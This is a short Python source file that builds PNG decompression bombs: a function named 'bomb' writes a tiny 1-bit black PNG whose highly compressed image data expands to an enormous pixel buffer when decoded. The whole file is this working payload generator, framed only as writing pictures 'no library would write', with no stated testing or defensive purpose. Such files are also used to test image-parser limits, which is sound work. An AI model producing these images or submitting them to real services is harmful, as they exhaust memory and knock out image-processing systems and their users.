"""A minimal PNG writer, for pictures that no library would write."""

import struct
import zlib


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb(side: int) -> bytes:
    """A black PNG of side×side pixels, one bit each."""
    squeeze = zlib.compressobj(9)
    row = b"\0" + bytes(-(-side // 8))
    data = b"".join(squeeze.compress(row) for _ in range(side)) + squeeze.flush()
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
